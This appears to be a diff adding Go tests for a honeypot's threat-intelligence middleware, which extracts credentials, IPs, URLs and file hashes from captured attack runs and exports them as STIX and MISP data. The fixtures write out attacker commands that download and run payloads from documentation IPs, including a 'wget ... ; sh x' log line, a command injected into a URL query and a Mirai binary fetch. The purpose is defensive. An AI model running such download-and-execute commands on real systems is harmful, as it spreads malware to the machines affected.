@@ -0,0 +1,240 @@
+package middleware
+
+import (
+	"archive/tar"
+	"encoding/json"
+	"io/ioutil"
+	"net"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+	"github.com/google/gopacket/pcapgo"
+	"github.com/google/uuid"
+)
+
+// writeTestRun writes a collection run with a login and a fetched url in the log, a dropped
+// file and an outbound HTTP request.
+func writeTestRun(t *testing.T, dir string) string {
+	runPath := filepath.Join(dir, "ssh_1600000000")
+	if err := os.MkdirAll(runPath, os.ModePerm); err != nil {
+		t.Fatal(err)
+	}
+
+	started := time.Unix(1600000000, 0)
+	if err := WriteManifest(runPath, Manifest{Pot: "ssh", StartedAt: started, FinishedAt: started.Add(time.Minute), Subnets: []string{"172.18.0.0/16"}}); err != nil {
+		t.Fatal(err)
+	}
+
+	log := "login attempt [root/123456] succeeded\nCMD: cd /tmp; wget http://203.0.113.5/bins/x86 -O x; sh x\n"
+	if err := ioutil.WriteFile(filepath.Join(runPath, "container.log"), []byte(log), 0644); err != nil {
+		t.Fatal(err)
+	}
+	if err := ioutil.WriteFile(filepath.Join(runPath, "container.diff"), []byte("C /tmp\nA /tmp/x\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+
+	dump, err := os.Create(filepath.Join(runPath, "dump.tar"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	writer := tar.NewWriter(dump)
+	for name, content := range map[string]string{"tmp/x": "malware", "etc/passwd": "root:x:0:0"} {
+		_ = writer.WriteHeader(&tar.Header{Name: name, Mode: 0755, Size: int64(len(content)), Typeflag: tar.TypeReg})
+		_, _ = writer.Write([]byte(content))
+	}
+	_ = writer.Close()
+	_ = dump.Close()
+
+	pcapFile, err := os.Create(filepath.Join(runPath, "network.pcap"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	pcapWriter := pcapgo.NewWriter(pcapFile)
+	_ = pcapWriter.WriteFileHeader(65536, layers.LinkTypeEthernet)
+
+	ip := &layers.IPv4{Version: 4, TTL: 64, Protocol: layers.IPProtocolTCP, SrcIP: net.ParseIP("172.18.0.2"), DstIP: net.ParseIP("198.51.100.7")}
+	tcp := &layers.TCP{SrcPort: 40000, DstPort: 8080, PSH: true, ACK: true}
+	_ = tcp.SetNetworkLayerForChecksum(ip)
+	buffer := gopacket.NewSerializeBuffer()
+	payload := gopacket.Payload("GET /mirai.arm7 HTTP/1.1\r\nHost: 198.51.100.7:8080\r\nUser-Agent: wget\r\n\r\n")
+	ethernet := &layers.Ethernet{SrcMAC: net.HardwareAddr{2, 0, 0, 0, 0, 1}, DstMAC: net.HardwareAddr{2, 0, 0, 0, 0, 2}, EthernetType: layers.EthernetTypeIPv4}
+	if err := gopacket.SerializeLayers(buffer, gopacket.SerializeOptions{FixLengths: true, ComputeChecksums: true}, ethernet, ip, tcp, payload); err != nil {
+		t.Fatal(err)
+	}
+	data := buffer.Bytes()
+	_ = pcapWriter.WritePacket(gopacket.CaptureInfo{Timestamp: started.Add(time.Second), CaptureLength: len(data), Length: len(data)}, data)
+	_ = pcapFile.Close()
+
+	return runPath
+}
+
+func TestIndicatorSet(t *testing.T) {
+	dir, err := ioutil.TempDir("", "intel")
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	set := NewIndicatorSet()
+	if err := set.AddRun(writeTestRun(t, dir)); err != nil {
+		t.Fatal(err)
+	}
+
+	now := time.Unix(1600000100, 0)
+	set.AddEvents([]Event{
+		{Time: now, Pot: "ssh", Kind: EventConnection, SourceIP: "192.0.2.1"},
+		{Time: now.Add(time.Minute), Pot: "ssh", Kind: EventConnection, SourceIP: "192.0.2.1"},
+		{Time: now, Pot: "web", Kind: EventConnection, SourceIP: "192.0.2.1"},
+		{Time: now, Pot: "web", Kind: EventConnection, SourceIP: "10.0.0.1"},
+		{Time: now, Pot: "web", Kind: EventOutbound, DestinationIP: "198.51.100.7"},
+	})
+
+	var values []string
+	for _, indicator := range set.Indicators() {
+		values = append(values, indicator.Type+" "+indicator.Value+" "+indicator.Pot)
+	}
+	expected := []string{
+		"credential root:123456 ssh",
+		"file 2f293f67aa33f2ce247b28d6fb2fef2623cfde731f96b3d7f84ae74e9e192bdd ssh",
+		"ip 192.0.2.1 ssh",
+		"ip 192.0.2.1 web",
+		"ip 198.51.100.7 web",
+		"url http://198.51.100.7:8080/mirai.arm7 ssh",
+		"url http://203.0.113.5/bins/x86 ssh",
+	}
+	if strings.Join(values, "\n") != strings.Join(expected, "\n") {
+		t.Errorf("indicators not match\nexpected: %s\nactual: %s", strings.Join(expected, ", "), strings.Join(values, ", "))
+	}
+
+	for _, indicator := range set.Indicators() {
+		if indicator.Type == IndicatorIP && indicator.Pot == "ssh" && (indicator.Count != 2 || !indicator.LastSeen.Equal(now.Add(time.Minute))) {
+			t.Errorf("merged indicator not match\nexpected: 2 sightings until %s, actual: %+v", now.Add(time.Minute), indicator)
+		}
+		if indicator.Type == IndicatorFile && (indicator.Path != "/tmp/x" || indicator.Hashes["md5"] == "") {
+			t.Errorf("file indicator not match\nexpected: /tmp/x with md5, actual: %+v", indicator)
+		}
+	}
+}
+
+func TestExtractURLs(t *testing.T) {
+	urls := ExtractURLs(`GET /shell?cd+/tmp;wget+http%3A%2F%2F203.0.113.5%2Fx.sh;sh+x.sh HTTP/1.1 "tftp://203.0.113.6/y", http://`)
+
+	expected := "http://203.0.113.5/x.sh tftp://203.0.113.6/y"
+	if strings.Join(urls, " ") != expected {
+		t.Errorf("urls not match\nexpected: %s, actual: %v", expected, urls)
+	}
+}
+
+var testIndicators = []Indicator{
+	{Type: IndicatorCredential, Value: "root:123456", Role: "login", Pot: "ssh", Username: "root", Password: "123456", FirstSeen: time.Unix(1600000000, 0), LastSeen: time.Unix(1600000000, 0), Count: 3},
+	{Type: IndicatorIP, Value: "192.0.2.1", Role: "attacker", Pot: "ssh", FirstSeen: time.Unix(1600000000, 0), LastSeen: time.Unix(1600000060, 0), Count: 2},
+	{Type: IndicatorIP, Value: "192.0.2.1", Role: "attacker", Pot: "web", FirstSeen: time.Unix(1600000100, 0), LastSeen: time.Unix(1600000100, 0), Count: 1},
+}
+
+func TestSTIXBundle(t *testing.T) {
+	bundle, err := STIXBundle(testIndicators, "green", time.Unix(1600001000, 0))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data, _ := json.Marshal(bundle)
+	var decoded struct {
+		Type    string                   `json:"type"`
+		Objects []map[string]interface{} `json:"objects"`
+	}
+	if err := json.Unmarshal(data, &decoded); err != nil {
+		t.Fatal(err)
+	}
+
+	counts := make(map[string]int)
+	ids := make(map[string]map[string]interface{})
+	for _, object := range decoded.Objects {
+		counts[object["type"].(string)]++
+		ids[object["id"].(string)] = object
+	}
+
+	// marking, producer and two pots; two values each with observable and indicator; three sightings
+	expected := map[string]int{"marking-definition": 1, "identity": 3, "user-account": 1, "ipv4-addr": 1, "indicator": 2, "observed-data": 3, "sighting": 3}
+	for kind, count := range expected {
+		if counts[kind] != count {
+			t.Errorf("%s objects not match\nexpected: %d, actual: %d", kind, count, counts[kind])
+		}
+	}
+
+	for _, object := range decoded.Objects {
+		if object["type"] != "sighting" {
+			continue
+		}
+		indicator := ids[object["sighting_of_ref"].(string)]
+		pot := ids[object["where_sighted_refs"].([]interface{})[0].(string)]
+		observed := ids[object["observed_data_refs"].([]interface{})[0].(string)]
+		if indicator == nil || pot == nil || observed == nil {
+			t.Fatalf("sighting refs not found in bundle - %v", object)
+		}
+		if indicator["pattern"] == "[ipv4-addr:value = '192.0.2.1']" && pot["name"] == "ssh" && object["count"] != float64(2) {
+			t.Errorf("sighting count not match\nexpected: 2, actual: %v", object["count"])
+		}
+	}
+
+	// objects keep their name based ids across exports, the bundle gets a new random one
+	again, _ := STIXBundle(testIndicators, "green", time.Unix(1600001000, 0))
+	for _, object := range again["objects"].([]interface{}) {
+		id := object.(map[string]interface{})["id"].(string)
+		parsed, err := uuid.Parse(id[strings.Index(id, "--")+2:])
+		if _, found := ids[id]; !found || err != nil || (!strings.HasPrefix(id, "marking-definition--") && parsed.Version() != 5) {
+			t.Errorf("object id not match\nexpected: same version 5 uuid, actual: %s", id)
+		}
+	}
+	bundleID, err := uuid.Parse(strings.TrimPrefix(bundle["id"].(string), "bundle--"))
+	if err != nil || bundleID.Version() != 4 || again["id"] == bundle["id"] {
+		t.Errorf("bundle id not match\nexpected: new version 4 uuid, actual: %s %s", bundle["id"], again["id"])
+	}
+
+	if _, err := STIXBundle(testIndicators, "purple", time.Now()); err == nil {
+		t.Errorf("unknown tlp accepted")
+	}
+}
+
+func TestMISPEvent(t *testing.T) {
+	event, err := MISPEvent(testIndicators, "test", "amber", time.Unix(1600001000, 0))
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	data, _ := json.Marshal(event)
+	var decoded struct {
+		Event struct {
+			Info      string `json:"info"`
+			Attribute []struct {
+				Type     string              `json:"type"`
+				Value    string              `json:"value"`
+				Sighting []map[string]string `json:"Sighting"`
+			} `json:"Attribute"`
+			Object []struct {
+				Name      string `json:"name"`
+				Attribute []struct {
+					Relation string `json:"object_relation"`
+					Value    string `json:"value"`
+				} `json:"Attribute"`
+			} `json:"Object"`
+		} `json:"Event"`
+	}
+	if err := json.Unmarshal(data, &decoded); err != nil {
+		t.Fatal(err)
+	}
+
+	attributes := decoded.Event.Attribute
+	if len(attributes) != 1 || attributes[0].Type != "ip-src" || len(attributes[0].Sighting) != 2 || attributes[0].Sighting[1]["source"] != "web" {
+		t.Errorf("ip attribute not match\nexpected: ip-src sighted on ssh and web, actual: %+v", attributes)
+	}
+
+	objects := decoded.Event.Object
+	if len(objects) != 1 || objects[0].Name != "credential" || objects[0].Attribute[1].Relation != "password" || objects[0].Attribute[1].Value != "123456" {
+		t.Errorf("credential object not match\nexpected: credential with password 123456, actual: %+v", objects)
+	}
+}